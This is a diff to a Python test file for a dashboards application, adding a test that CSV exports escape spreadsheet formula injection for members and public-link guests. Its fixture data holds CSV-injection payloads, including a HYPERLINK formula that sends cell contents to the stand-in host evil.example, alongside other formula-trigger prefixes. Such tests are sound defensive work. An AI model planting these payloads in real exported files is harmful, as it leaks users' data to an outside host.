@@ -3,6 +3,8 @@ locking, filters, public links (token, expiry, revoke, regenerate, isolation, ra
 
 from __future__ import annotations
 
+import csv as csv_module
+import io
 import json
 from datetime import UTC, datetime, timedelta
 
@@ -13,7 +15,13 @@ from sqlalchemy import select, update
 from assets.data_models import data_model_tables
 from dra.dashboards.cache import widget_cache
 from dra.modeling import service as models
-from dra.models import Dashboard, DashboardPublicLink, DashboardWidget, SubscriptionTier
+from dra.models import (
+    Dashboard,
+    DashboardPublicLink,
+    DashboardWidget,
+    DataModel,
+    SubscriptionTier,
+)
 from tests.support.factories import project_with_roles
 from tests.support.modeling import JOIN_QUERY, seed_shop
 
@@ -313,3 +321,84 @@ def test_all_dashboards_of_the_user_across_projects(shop, login, database):
     assert b"Outsider board" not in page.data
     admin_page = login(roles.platform_admin).get("/dashboards")
     assert b"Editors&#39; board" not in admin_page.data  # admins list their own projects'
+
+
+HOSTILE_NOTES = [
+    (1, '=HYPERLINK("http://evil.example/?d="&A1,"open")', -5),
+    (2, "+1+2", 3),
+    (3, "-2+3", -7),
+    (4, "@SUM(A1:A2)", 0),
+    (5, "\tcmd", 1),
+    (6, "\rcmd", 2),
+    (7, " =1+1", 4),
+    (8, "plain text", -1),
+]
+
+
+def test_csv_exports_write_formulas_as_text_for_members_and_guests(
+    shop, login, database, materialize, app
+):
+    from dra.ingestion.csv_files import Column
+    from dra.ingestion.naming import raw_schema
+    from dra.models import DataSource, DataSourceTable
+    from tests.support.modeling import load_table
+
+    roles, *_ = shop
+    columns = [
+        Column("id", "id", "bigint"),
+        Column("note", "note", "text"),
+        Column("delta", "delta", "numeric"),
+    ]
+    load_table(database, raw_schema(roles.project_id), "notes", columns, HOSTILE_NOTES)
+    with database.system_session() as s:
+        src = DataSource(project_id=roles.project_id, name="Notes", type="csv", status="ready")
+        s.add(src)
+        s.flush()
+        s.add(
+            DataSourceTable(
+                data_source_id=src.id,
+                source_table="notes",
+                raw_table="notes",
+                row_count=len(HOSTILE_NOTES),
+                columns=[
+                    {"name": c.name, "source_name": c.name, "type": c.pg_type} for c in columns
+                ],
+            )
+        )
+        notes = models.save_model(
+            s,
+            database,
+            roles.project_id,
+            roles.owner.id,
+            name="Notes",
+            sql="select id, note, delta from notes order by id",
+        ).model.id
+        all_models = list(s.scalars(select(DataModel.id)))
+    materialize(
+        [data_model_tables],
+        partition_key=str(notes),
+        dynamic_partitions={"data_models": all_models},
+    )
+    editor = login(roles.editor)
+    board_id = new_board(editor, roles.project_id)
+    resp = add_widget(
+        editor, database, roles.project_id, board_id, data_model_id=notes, chart_type="table"
+    )
+    assert resp.status_code == 302, resp.data
+    with database.system_session() as s:
+        wid = s.scalar(select(DashboardWidget.id))
+    editor.post(f"{base(roles.project_id)}/{board_id}/share", data={"action": "create"})
+    with database.system_session() as s:
+        token = s.scalar(select(DashboardPublicLink.token))
+    member = login(roles.viewer).get(f"{base(roles.project_id)}/{board_id}/widgets/{wid}/data.csv")
+    guest = app.test_client().get(f"/public/d/{token}/widgets/{wid}/data.csv")
+    for resp in (member, guest):
+        assert resp.status_code == 200 and resp.mimetype == "text/csv"
+        rows = list(csv_module.reader(io.StringIO(resp.get_data(as_text=True))))
+        assert rows[0] == ["id", "note", "delta"]
+        notes_out = {int(r[0]): r[1] for r in rows[1:]}
+        deltas = {int(r[0]): r[2] for r in rows[1:]}
+        for nid, text, _delta in HOSTILE_NOTES[:-1]:
+            assert notes_out[nid] == "'" + text, (nid, notes_out[nid])
+        assert notes_out[8] == "plain text"
+        assert deltas[1] == "-5" and deltas[3] == "-7"  # negative numbers stay numbers
